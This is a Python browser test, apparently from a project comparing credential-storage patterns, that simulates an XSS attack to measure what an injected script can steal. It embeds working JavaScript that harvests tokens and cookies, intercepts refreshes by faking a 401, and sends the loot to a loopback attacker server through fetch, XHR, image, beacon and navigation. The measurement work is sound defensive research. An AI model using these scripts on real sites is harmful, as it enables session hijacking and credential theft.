"""
What an injected script (XSS) gets under each way of holding the credentials, measured in
Chromium: the three patterns of /app/ and the storefront's session.

No hole is made in the site. The victim signs in, then the test runs the attacker's script
inside the page (``page.evaluate``), as a script injected there would run; a second loopback
server on another origin stands in for the attacker, and the attacker's own process (this
test, with no browser) tries what arrived after the victim's tab is closed.

Each pattern's observations are compared with docs/xss-exposure.json, so the test fails if
any pattern's exposure changes. ``XSS_EXPOSURE_WRITE=1`` writes them there instead;
scripts/xss_exposure.py does that and renders the table into docs/comparison.md.
"""

import json
import os
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse

from compare.xss_exposure import CHANNELS, XSS_EXPOSURE_PATH
from shop.selectors import cart_get_for_user, cart_lines
from tests.support.attacker import AttackerServer, call, jwt_claims
from tests.support.factories import ProductFactory, UserFactory
from tests.support.webclient import EMAIL, Client, storefront_sign_in

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.django_db(transaction=True)]

WRITE = os.environ.get("XSS_EXPOSURE_WRITE") == "1"
PATTERN_LABELS = {
    "memory": "Tokens in memory",
    "cookie": "Refresh token in an HttpOnly cookie",
    "localstorage": "Tokens in localStorage",
}

# --- The attacker's script, in four steps -----------------------------------------------------

# 1. Read every credential the page leaves where a script can look: cookies, both
#    storages, string globals. Return what was found where, and the values themselves.
READ_AT_REST = r"""
() => {
  const isJwt = (value) => /^eyJ[\w-]+\.eyJ[\w-]+\.[\w-]+$/.test(value);
  const jwtsIn = (text) => text.match(/eyJ[\w-]+\.eyJ[\w-]+\.[\w-]+/g) || [];
  const found = [];
  const loot = {};
  for (const pair of document.cookie ? document.cookie.split("; ") : []) {
    const [name, ...value] = pair.split("=");
    found.push(`document.cookie ${name}`);
    loot[`cookie ${name}`] = value.join("=");
  }
  const stores = [["localStorage", localStorage], ["sessionStorage", sessionStorage]];
  for (const [where, store] of stores) {
    for (let i = 0; i < store.length; i++) {
      const key = store.key(i);
      const tokens = jwtsIn(store.getItem(key));
      if (tokens.length) found.push(`${where} ${key}`);
      tokens.forEach((token, n) => { loot[`${where} ${key} ${n}`] = token; });
    }
  }
  for (const name of Object.keys(window)) {
    let value;
    try { value = window[name]; } catch { continue; }
    if (typeof value === "string" && isJwt(value)) {
      found.push(`window.${name}`);
      loot[`window ${name}`] = value;
    }
  }
  return { found, loot };
}
"""

# 2. Catch the tokens in transit: wrap window.fetch (which the page's module calls by its
#    global name), answer the page's next API call with a fake 401 so that it refreshes,
#    and keep every JWT that goes by in a header, a request body or an answer.
READ_IN_TRANSIT = r"""
async () => {
  const jwtsIn = (text) => text.match(/eyJ[\w-]+\.eyJ[\w-]+\.[\w-]+/g) || [];
  const seen = [];
  const real = window.fetch;
  let faked = false;
  let retried = false;
  window.fetch = async (input, init = {}) => {
    const auth = new Headers(init.headers || {}).get("Authorization") || "";
    seen.push(...jwtsIn(auth));
    if (typeof init.body === "string") seen.push(...jwtsIn(init.body));
    if (auth && !faked) {
      faked = true;
      return new Response('{"detail": "Token expired.", "code": "token_not_valid"}', {
        status: 401, headers: { "Content-Type": "application/json" },
      });
    }
    const answer = await real(input, init);
    seen.push(...jwtsIn(await answer.clone().text()));
    if (auth) retried = true;
    return answer;
  };
  document.querySelector("[data-view=products]").click();
  // Until the page has refreshed and retried its call with the new access token.
  const started = Date.now();
  while (!retried && Date.now() - started < 5000) {
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  window.fetch = real;
  return [...new Set(seen)];
}
"""

# 3. Act as the user from inside the tab; each pattern's attacker writes the calls its site
#    invites. Return {request: status} and any token minted on the way.
WHILE_OPEN = {
    "memory": r"""
async () => {
  // The page's own module, imported again, is the same instance with the tokens inside.
  const src = document.querySelector("script[type=module]").src;
  const client = await import(new URL("api.js", src));
  const request = "GET /api/me/ through the page's own api.js";
  try {
    await client.api("/me/");
    return { done: { [request]: 200 }, minted: {} };
  } catch (error) {
    return { done: { [request]: error.status || 0 }, minted: {} };
  }
}
""",
    "cookie": r"""
async ({ csrfCookie }) => {
  const csrf = document.cookie.split("; ").find((pair) => pair.startsWith(`${csrfCookie}=`));
  const refreshed = await fetch("/api/auth/browser/refresh/", {
    method: "POST", headers: { "X-CSRFToken": csrf.split("=")[1] },
  });
  const { access } = await refreshed.json();
  const me = await fetch("/api/me/", { headers: { Authorization: `Bearer ${access}` } });
  return {
    done: {
      "POST /api/auth/browser/refresh/ (the cookie rides along; CSRF token from document.cookie)":
        refreshed.status,
      "GET /api/me/ with the access token it answered": me.status,
    },
    minted: { "minted access": access },
  };
}
""",
    "localstorage": r"""
async () => {
  const { access } = JSON.parse(localStorage.getItem("webclient.tokens"));
  const me = await fetch("/api/me/", { headers: { Authorization: `Bearer ${access}` } });
  const request = "GET /api/me/ with the access token from localStorage";
  return { done: { [request]: me.status }, minted: {} };
}
""",
    "session": r"""
async ({ productPath }) => {
  const page = await (await fetch(productPath)).text();
  const token = page.match(/name="csrfmiddlewaretoken" value="([^"]+)"/)[1];
  const added = await fetch(productPath, {
    method: "POST", redirect: "manual",
    body: new URLSearchParams({ csrfmiddlewaretoken: token, quantity: "1" }),
  });
  const request =
    "POST /products/{slug}/ (add to cart: session cookie rides along, CSRF token from the page)";
  return { done: { [request]: added.type === "opaqueredirect" ? 302 : added.status }, minted: {} };
}
""",
}

# 4. Send the loot to the attacker's origin by every request channel a script has. The
#    page's Content-Security-Policy decides which get out; the attacker's server says.
SEND = r"""
async ({ attacker, loot }) => {
  const data = encodeURIComponent(JSON.stringify(loot));
  const url = (channel) => `${attacker}/${channel}?d=${data}`;
  const settle = (promise) => Promise.race([
    promise.catch(() => {}), new Promise((resolve) => setTimeout(resolve, 1000)),
  ]);
  await settle(fetch(url("fetch"), { mode: "no-cors" }));
  await settle(new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.open("GET", url("xhr"));
    request.onloadend = resolve;
    request.send();
  }));
  await settle(new Promise((resolve) => {
    const image = new Image();
    image.onload = image.onerror = resolve;
    image.src = url("img");
  }));
  try { navigator.sendBeacon(url("beacon")); } catch {}
}
"""

# ...and last, a top-level navigation, which connect-src and img-src do not govern.
NAVIGATE = """
({ attacker, loot }) => {
  location = `${attacker}/navigation?d=` + encodeURIComponent(JSON.stringify(loot));
}
"""


# --- The victims ------------------------------------------------------------------------------


@pytest.fixture
def victim(live_server, password):
    return UserFactory(email=EMAIL, password=password)


@pytest.fixture
def kettle(live_server):
    return ProductFactory(name="Blue Kettle", price=Decimal("12.50"), stock=5)


def signed_in_page(pattern, browser, live_server, password):
    """A fresh context signed in as the victim the pattern's way; return (context, page)."""
    if pattern == "session":
        context, page = storefront_sign_in(browser, live_server.url, password)
        page.goto(live_server.url + reverse("shop:cart"))
        return context, page
    tab = Client(browser, live_server).open().sign_in(password, pattern=PATTERN_LABELS[pattern])
    return tab.context, tab.page


def cookie_kinds(context) -> dict[str, str]:
    """The victim's credential cookies now, as {value: which credential it is}."""
    kinds = {
        settings.SESSION_COOKIE_NAME: "session cookie",
        settings.BROWSER_REFRESH_COOKIE_NAME: "refresh cookie",
        settings.CSRF_COOKIE_NAME: "CSRF token",
    }
    return {c["value"]: kinds[c["name"]] for c in context.cookies() if c["name"] in kinds}


def kind_of(value: str, cookies: dict[str, str]) -> str:
    """Name a value the way the table does: which credential it is."""
    if value.count(".") == 2 and value.startswith("eyJ"):
        return f"{jwt_claims(value)['token_type']} token"
    return cookies.get(value, "other")


def latest(loot: dict[str, str], kind: str, cookies) -> str | None:
    """The last value of that kind to arrive (tokens rotate: the newest one is live)."""
    values = [value for value in loot.values() if kind_of(value, cookies) == kind]
    return values[-1] if values else None


def use_after_close(base_url: str, loot: dict[str, str], cookies) -> list[dict]:
    """Try each credential that arrived from the attacker's own process, without a browser."""
    tried = []
    access = latest(loot, "access token", cookies)
    if access:
        status, _ = call(
            base_url, "GET", reverse("api:me"), headers={"Authorization": f"Bearer {access}"}
        )
        claims = jwt_claims(access)
        tried.append(
            {
                "credential": "access token",
                "request": "GET /api/me/",
                "status": status,
                "usable_for": f"until its exp: {claims['exp'] - claims['iat']} s after issue",
            }
        )
    refresh = latest(loot, "refresh token", cookies)
    if refresh:
        status, _ = call(base_url, "POST", reverse("api:token_refresh"), body={"refresh": refresh})
        claims = jwt_claims(refresh)
        cap_days = settings.JWT_REFRESH_MAX_AGE_SECONDS // 86400
        tried.append(
            {
                "credential": "refresh token",
                "request": "POST /api/auth/token/refresh/",
                "status": status,
                "usable_for": (
                    f"new pairs until the sign-in is revoked, each refresh token "
                    f"{claims['exp'] - claims['iat']} s, the chain at most {cap_days} days"
                ),
            }
        )
    # HttpOnly cookies should never arrive; if one does, the table must say what it is worth.
    for kind, name, method, url_name in [
        ("session cookie", settings.SESSION_COOKIE_NAME, "GET", "accounts:me"),
        (
            "refresh cookie",
            settings.BROWSER_REFRESH_COOKIE_NAME,
            "POST",
            "api:browser_token_refresh",
        ),
    ]:
        if value := latest(loot, kind, cookies):
            status, _ = call(
                base_url, method, reverse(url_name), headers={"Cookie": f"{name}={value}"}
            )
            tried.append(
                {
                    "credential": kind,
                    "request": f"{method} {reverse(url_name)}",
                    "status": status,
                    "usable_for": "until it is revoked",
                }
            )
    csrf = latest(loot, "CSRF token", cookies)
    if csrf:
        status, _ = call(
            base_url,
            "POST",
            reverse("api:browser_token_refresh"),
            headers={"X-CSRFToken": csrf, "Cookie": f"{settings.CSRF_COOKIE_NAME}={csrf}"},
        )
        tried.append(
            {
                "credential": "CSRF token",
                "request": "POST /api/auth/browser/refresh/ with it (no refresh cookie)",
                "status": status,
                "usable_for": "never on its own",
            }
        )
    return tried


def measure(pattern, browser, live_server, victim, password, kettle) -> dict:
    """Run the four steps against a victim signed in the pattern's way; return what was seen."""
    context, page = signed_in_page(pattern, browser, live_server, password)
    cookies = cookie_kinds(context)
    at_rest = page.evaluate(READ_AT_REST)
    in_transit = [] if pattern == "session" else page.evaluate(READ_IN_TRANSIT)
    acted = page.evaluate(
        WHILE_OPEN[pattern],
        {
            "csrfCookie": settings.CSRF_COOKIE_NAME,
            "productPath": reverse("shop:product_detail", args=[kettle.slug]),
        },
    )
    loot = {
        **at_rest["loot"],
        **{f"transit {n}": token for n, token in enumerate(in_transit)},
        **acted["minted"],
    }
    with AttackerServer() as attacker:
        page.evaluate(SEND, {"attacker": attacker.url, "loot": loot})
        page.wait_for_timeout(500)
        page.evaluate(NAVIGATE, {"attacker": attacker.url, "loot": loot})
        attacker.wait_for("navigation")
        channels = {channel: channel in attacker.channels() for channel in CHANNELS}
        arrived = attacker.loot()
    cookies |= cookie_kinds(context)  # The refresh cookie has rotated meanwhile.
    context.close()
    in_cart = [line.product_id for line in cart_lines(cart=cart_get_for_user(user=victim))]
    return {
        "reads_at_rest": sorted(at_rest["found"]),
        "reads_in_transit": sorted({kind_of(token, cookies) for token in in_transit}),
        "while_open": [
            {"request": request, "status": status} for request, status in acted["done"].items()
        ],
        "cart_changed_by_script": in_cart == [kettle.pk],
        "channels": channels,
        "arrived": sorted({kind_of(value, cookies) for value in arrived.values()}),
        "after_close": use_after_close(live_server.url, arrived, cookies),
    }


@pytest.mark.parametrize("pattern", ["memory", "cookie", "localstorage", "session"])
def test_what_an_injected_script_gets_is_what_the_table_says(
    pattern, browser, live_server, victim, password, kettle
):
    observed = measure(pattern, browser, live_server, victim, password, kettle)
    path = Path(XSS_EXPOSURE_PATH)
    committed = json.loads(path.read_text()) if path.exists() else {"patterns": {}}
    if WRITE:
        committed["patterns"][pattern] = observed
        path.write_text(json.dumps(committed, indent=2) + "\n")
    assert committed["patterns"].get(pattern) == observed, (
        f"the exposure of {pattern!r} changed: if that is intended, run scripts/xss_exposure.py"
    )
